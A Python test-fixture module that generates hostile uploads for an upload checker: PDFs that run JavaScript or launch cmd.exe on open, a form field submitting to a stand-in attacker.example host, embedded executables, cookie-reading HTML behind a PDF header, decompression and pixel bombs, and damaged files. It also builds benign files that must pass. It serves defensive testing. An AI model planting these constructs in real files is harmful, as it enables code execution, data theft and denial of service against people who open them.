"""Hostile uploads, made by code (nothing binary is committed), and good files made the same way.

HOSTILE is a list of HostileFile(what it attacks, file name, its maker, the refusal's code); each
maker says what its file attacks and runs once, when a test first asks for the file's content.
GOOD lists files an applicant really sends, which must still pass.
"""

import base64
import functools
import io
import struct
import zlib
from dataclasses import dataclass

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

from tests.factories.service_requests import jpg_bytes, png_bytes


@dataclass(frozen=True)
class HostileFile:
    attack: str
    name: str
    make: object
    code: str

    @property
    def content(self) -> bytes:
        return _made(self.make)


@functools.cache
def _made(make) -> bytes:
    return make()


# PDFs


def _save(pdf, **options) -> bytes:
    """The file as written: qpdf would otherwise decode the streams and encode them afresh."""
    buffer = io.BytesIO()
    pdf.save(buffer, compress_streams=False, **options)
    return buffer.getvalue()


def _one_page_pdf():
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    page = pdf.pages[0]
    content = pdf.make_stream(b"")
    content.write(zlib.compress(b"BT /F1 12 Tf 72 760 Td (Form) Tj ET"), filter=Name.FlateDecode)
    page.obj.Contents = content
    return pdf


def plain_pdf() -> bytes:
    """A one-page PDF with compressed page content."""
    return _save(_one_page_pdf())


def pdf_with_form_field_and_link() -> bytes:
    """What a government form looks like: a fillable text field and a web link, no actions."""
    pdf = _one_page_pdf()
    page = pdf.pages[0]
    field = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Tx,
            T=String("full_name"),
            V=String("Wilaiwan"),
            Rect=Array([72, 700, 300, 720]),
            F=4,
            P=page.obj,
        )
    )
    link = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Link,
            Rect=Array([72, 650, 300, 670]),
            A=Dictionary(S=Name.URI, URI=String("https://www.obec.go.th/")),
        )
    )
    page.obj.Annots = Array([field, link])
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]), NeedAppearances=True)
    return _save(pdf)


def _pdf_with(change) -> bytes:
    pdf = _one_page_pdf()
    change(pdf)
    return _save(pdf)


def _javascript(code="app.alert('hi')"):
    return Dictionary(S=Name.JavaScript, JS=String(code))


def pdf_open_action_javascript() -> bytes:
    # Runs a script as soon as the officer opens the file.
    return _pdf_with(lambda pdf: setattr(pdf.Root, "OpenAction", _javascript()))


def pdf_open_action_launch() -> bytes:
    # Starts a program on the officer's computer when the file is opened.
    return _pdf_with(
        lambda pdf: setattr(pdf.Root, "OpenAction", Dictionary(S=Name.Launch, F=String("cmd.exe")))
    )


def pdf_document_javascript() -> bytes:
    # A document-level script in the /Names /JavaScript tree (runs on open in Acrobat).
    def change(pdf):
        script = pdf.make_indirect(_javascript())
        pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("init"), script])))

    return _pdf_with(change)


def pdf_page_additional_action() -> bytes:
    # A page's /AA: a script that runs when the page is shown.
    return _pdf_with(lambda pdf: setattr(pdf.pages[0].obj, "AA", Dictionary(O=_javascript())))


def pdf_link_launch() -> bytes:
    # A link that launches a program when clicked, dressed as an ordinary link.
    def change(pdf):
        link = Dictionary(
            Type=Name.Annot,
            Subtype=Name.Link,
            Rect=Array([72, 650, 300, 670]),
            A=Dictionary(S=Name.Launch, F=String("C:\\Windows\\System32\\calc.exe")),
        )
        pdf.pages[0].obj.Annots = Array([pdf.make_indirect(link)])

    return _pdf_with(change)


def pdf_field_submits_form() -> bytes:
    # A form field that sends what the officer types to someone else's server.
    def change(pdf):
        field = pdf.make_indirect(
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.Widget,
                FT=Name.Btn,
                T=String("send"),
                Rect=Array([72, 700, 300, 720]),
                A=Dictionary(S=Name.SubmitForm, F=String("https://attacker.example/collect")),
            )
        )
        pdf.pages[0].obj.Annots = Array([field])
        pdf.Root.AcroForm = Dictionary(Fields=Array([field]))

    return _pdf_with(change)


def pdf_script_in_document_info() -> bytes:
    # A script parked where no viewer's action table looks (the document information), for a
    # later incremental update to wire up.
    return _pdf_with(lambda pdf: setattr(pdf.docinfo, "Payload", pdf.make_indirect(_javascript())))


def pdf_embedded_file() -> bytes:
    # Carries a Windows program inside the PDF (/Names /EmbeddedFiles).
    def change(pdf):
        pdf.attachments["invoice.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00" + b"\x00" * 60)

    return _pdf_with(change)


def pdf_file_attachment_annotation() -> bytes:
    # A paper-clip annotation on the page with a file inside it.
    def change(pdf):
        spec = pikepdf.AttachedFileSpec(pdf, b"<script>alert(1)</script>", filename="note.html")
        annotation = Dictionary(
            Type=Name.Annot,
            Subtype=Name.FileAttachment,
            Rect=Array([72, 650, 90, 670]),
            FS=spec.obj,
        )
        pdf.pages[0].obj.Annots = Array([pdf.make_indirect(annotation)])

    return _pdf_with(change)


def pdf_xfa_form() -> bytes:
    # An XFA form: XML forms with their own scripting engine.
    def change(pdf):
        xfa = pdf.make_stream(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>1</script></xdp:xdp>')
        pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=xfa)

    return _pdf_with(change)


def pdf_header_only() -> bytes:
    # Starts like a PDF, which is all the old check looked at, and is an HTML page after that.
    return b"%PDF-1.7\n<html><script>alert(document.cookie)</script></html>\n"


def pdf_truncated() -> bytes:
    # The first half of a real PDF: the cross-reference table and trailer are missing.
    content = pdf_with_form_field_and_link()
    return content[: len(content) // 2]


def pdf_broken_cross_references() -> bytes:
    # Every offset in the cross-reference table points at the wrong byte; viewers guess.
    content = _save(_one_page_pdf(), object_stream_mode=pikepdf.ObjectStreamMode.disable)
    head, _, tail = content.rpartition(b"\nxref\n")
    table, _, trailer = tail.partition(b"trailer")
    shifted = b"\n".join(
        line[:10].replace(b"0", b"9", 3) + line[10:] if line.endswith(b" n ") else line
        for line in table.split(b"\n")
    )
    return head + b"\nxref\n" + shifted + b"trailer" + trailer


def pdf_corrupt_stream() -> bytes:
    # A page whose compressed content is not deflate data at all.
    def change(pdf):
        stream = pdf.make_stream(b"")
        stream.write(b"\x78\x9cthis is not deflate data at all", filter=Name.FlateDecode)
        pdf.pages[0].obj.Contents = stream

    return _pdf_with(change)


@functools.cache
def _zeros_deflated_twice() -> bytes:
    once = zlib.compressobj(1)
    inner = b"".join(once.compress(b"\x00" * (1 << 22)) for _ in range(38)) + once.flush()
    return zlib.compress(inner, 9)


def pdf_deflate_bomb() -> bytes:
    # 150 MB of zeros, deflated twice, in a file of 150 KB (with more layers, far more): it
    # would keep a checker (or viewer) inflating for a long time.
    def change(pdf):
        stream = pdf.make_stream(b"")
        stream.write(_zeros_deflated_twice(), filter=Array([Name.FlateDecode, Name.FlateDecode]))
        pdf.pages[0].obj.Contents = stream

    return _pdf_with(change)


def pdf_deflate_bomb_in_ascii85() -> bytes:
    # The same bomb behind an ASCII85 layer, for a checker that inflates only pure deflate.
    def change(pdf):
        stream = pdf.make_stream(b"")
        stream.write(
            base64.a85encode(_zeros_deflated_twice()) + b"~>",
            filter=Array([Name.ASCII85Decode, Name.FlateDecode, Name.FlateDecode]),
        )
        pdf.pages[0].obj.Contents = stream

    return _pdf_with(change)


def pdf_with_password() -> bytes:
    # Needs a password to open: the officers cannot read it (and no check can look inside).
    return _save(_one_page_pdf(), encryption=pikepdf.Encryption(user="secret", owner="secret"))


def pdf_without_pages() -> bytes:
    # A well-formed PDF with nothing in it.
    return _save(pikepdf.new())


# Images


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _grey_png(width: int, height: int, *, extra_chunks=b"") -> bytes:
    """A black greyscale PNG written chunk by chunk, without ever holding its pixels."""
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    compressor = zlib.compressobj(6)
    row = b"\x00" * (width + 1)  # filter byte + one byte per pixel
    rows_per_block = max(1, (1 << 22) // len(row))
    blocks = []
    for start in range(0, height, rows_per_block):
        blocks.append(compressor.compress(row * min(rows_per_block, height - start)))
    blocks.append(compressor.flush())
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + extra_chunks
        + _png_chunk(b"IDAT", b"".join(blocks))
        + _png_chunk(b"IEND", b"")
    )


def png_144_megapixels() -> bytes:
    # 12,000 x 12,000 pixels in ~140 KB: 0.4 GB of memory once decoded (the bundle did).
    return _grey_png(12_000, 12_000)


def png_just_over_40_megapixels() -> bytes:
    # 6,400 x 6,400 = 41 megapixels: under Pillow's own bomb error, over the portal's limit.
    return _grey_png(6_400, 6_400)


def jpeg_claiming_4_gigapixels() -> bytes:
    # A tiny JPEG whose header says 65,000 x 65,000 pixels.
    content = bytearray(jpg_bytes())
    start_of_frame = content.index(b"\xff\xc0")
    content[start_of_frame + 5 : start_of_frame + 9] = struct.pack(">HH", 65_000, 65_000)
    return bytes(content)


def _noisy_jpeg() -> bytes:
    buffer = io.BytesIO()
    Image.effect_noise((320, 240), 60).convert("RGB").save(buffer, format="JPEG", quality=90)
    return buffer.getvalue()


def jpeg_truncated() -> bytes:
    # The first half of a photo: the header is fine, the lower half of the pixels is missing.
    content = _noisy_jpeg()
    return content[: len(content) // 2]


def png_truncated() -> bytes:
    # A PNG cut inside its pixel data.
    content = _grey_png(400, 400)
    return content[: len(content) - 30]


def png_bad_checksum() -> bytes:
    # Pixel data altered after the fact, so its checksum no longer matches.
    content = bytearray(png_bytes())
    pixels = content.index(b"IDAT") + 6
    content[pixels] ^= 0xFF
    return bytes(content)


def png_text_bomb() -> bytes:
    # A compressed text chunk that inflates to 64 MB when the header is read.
    text = b"Comment\x00\x00" + zlib.compress(b"A" * (64 << 20), 1)
    return _grey_png(8, 8, extra_chunks=_png_chunk(b"zTXt", text))


HOSTILE = [
    HostileFile("PDF header, HTML body", "ใบรับรอง.pdf", pdf_header_only, "pdf_damaged"),
    HostileFile("PDF cut in half", "ใบรับรอง.pdf", pdf_truncated, "pdf_damaged"),
    HostileFile("PDF broken cross-references", "ใบรับรอง.pdf", pdf_broken_cross_references, "pdf_damaged"),
    HostileFile("PDF corrupt content stream", "ใบรับรอง.pdf", pdf_corrupt_stream, "pdf_damaged"),
    HostileFile("PDF deflate bomb", "ใบรับรอง.pdf", pdf_deflate_bomb, "pdf_damaged"),
    HostileFile("PDF deflate bomb behind ASCII85", "ใบรับรอง.pdf", pdf_deflate_bomb_in_ascii85, "pdf_damaged"),
    HostileFile("PDF without pages", "ใบรับรอง.pdf", pdf_without_pages, "pdf_damaged"),
    HostileFile("PDF with a password", "ใบรับรอง.pdf", pdf_with_password, "pdf_encrypted"),
    HostileFile("PDF script on open", "ใบรับรอง.pdf", pdf_open_action_javascript, "pdf_active"),
    HostileFile("PDF program launch on open", "ใบรับรอง.pdf", pdf_open_action_launch, "pdf_active"),
    HostileFile("PDF document-level script", "ใบรับรอง.pdf", pdf_document_javascript, "pdf_active"),
    HostileFile("PDF page action", "ใบรับรอง.pdf", pdf_page_additional_action, "pdf_active"),
    HostileFile("PDF link launching a program", "ใบรับรอง.pdf", pdf_link_launch, "pdf_active"),
    HostileFile("PDF field submitting the form", "ใบรับรอง.pdf", pdf_field_submits_form, "pdf_active"),
    HostileFile("PDF script in document info", "ใบรับรอง.pdf", pdf_script_in_document_info, "pdf_active"),
    HostileFile("PDF XFA form", "ใบรับรอง.pdf", pdf_xfa_form, "pdf_active"),
    HostileFile("PDF embedded program", "ใบรับรอง.pdf", pdf_embedded_file, "pdf_embedded"),
    HostileFile(
        "PDF file attachment annotation", "ใบรับรอง.pdf", pdf_file_attachment_annotation, "pdf_embedded"
    ),
    HostileFile("PNG of 144 megapixels", "บัตร.png", png_144_megapixels, "too_many_pixels"),
    HostileFile("PNG just over 40 megapixels", "บัตร.png", png_just_over_40_megapixels, "too_many_pixels"),
    HostileFile(
        "JPEG header claiming 4 gigapixels", "บัตร.jpg", jpeg_claiming_4_gigapixels, "too_many_pixels"
    ),
    HostileFile("JPEG cut in half", "บัตร.jpg", jpeg_truncated, "damaged"),
    HostileFile("PNG cut in its pixels", "บัตร.png", png_truncated, "damaged"),
    HostileFile("PNG with a bad checksum", "บัตร.png", png_bad_checksum, "damaged"),
    HostileFile("PNG text chunk bomb", "บัตร.png", png_text_bomb, "damaged"),
]


def png_of_40_megapixels() -> bytes:
    return _grey_png(8_000, 5_000)


# (what it is, file name, its maker, the type it is stored as)
GOOD = [
    ("a PDF with a form field and a link", "แบบคำขอ.pdf", pdf_with_form_field_and_link, "application/pdf"),
    ("a plain PDF", "แบบคำขอ.pdf", plain_pdf, "application/pdf"),
    ("a photo", "รูปถ่าย.jpg", _noisy_jpeg, "image/jpeg"),
    ("a PNG of exactly 40 megapixels", "บัตร.png", png_of_40_megapixels, "image/png"),
    ("a small PNG", "บัตร.png", png_bytes, "image/png"),
]
